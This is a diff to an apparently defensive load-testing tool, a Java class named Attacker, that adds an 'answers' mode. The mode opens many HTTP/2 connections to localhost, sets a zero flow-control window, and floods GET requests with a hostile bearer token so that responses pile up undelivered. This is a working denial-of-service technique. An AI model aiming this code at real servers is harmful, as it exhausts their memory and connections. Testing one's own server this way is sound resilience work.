@@ -55,6 +55,7 @@ public final class Attacker {
       case "large" -> attacker.large();
       case "headers" -> attacker.headers();
       case "bodies" -> attacker.bodies();
+      case "answers" -> attacker.answers();
       default -> throw new IllegalArgumentException("There is no attack " + args[0]);
     }
     System.exit(0);
@@ -246,6 +247,44 @@ public final class Attacker {
       }
       if (!wrote) {
         Thread.sleep(5);
+      }
+    }
+  }
+
+  /// Calls over HTTP/2 whose answers, of many KiB each, are never let in.
+  private void answers() throws Exception {
+    List<SocketChannel> channels = new ArrayList<>();
+    while (goesOn()) {
+      SocketChannel channel = connected();
+      channel.configureBlocking(true);
+      channels.add(channel);
+      if (channels.size() > 50) {
+        channels.removeFirst().close();
+      }
+      try {
+        channel.write(bytes("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"));
+        channel.write(frame(4, 0, 0, new byte[] {0, 4, 0, 0, 0, 0}));
+        DefaultHttp2HeadersEncoder encoder = new DefaultHttp2HeadersEncoder();
+        for (int stream = 1; stream < 4_000 && goesOn(); stream += 2) {
+          ByteBuf block = Unpooled.buffer();
+          encoder.encodeHeaders(
+              stream,
+              new DefaultHttp2Headers()
+                  .method("GET")
+                  .scheme("http")
+                  .path("/q/metrics")
+                  .authority("localhost")
+                  .add("authorization", "Bearer " + Attacks.HOSTILE),
+              block);
+          byte[] bytes = new byte[block.readableBytes()];
+          block.readBytes(bytes);
+          channel.write(frame(1, 5, stream, bytes));
+          if (stream % 200 == 1) {
+            Thread.sleep(20);
+          }
+        }
+      } catch (IOException closed) {
+        // As it should be.
       }
     }
   }
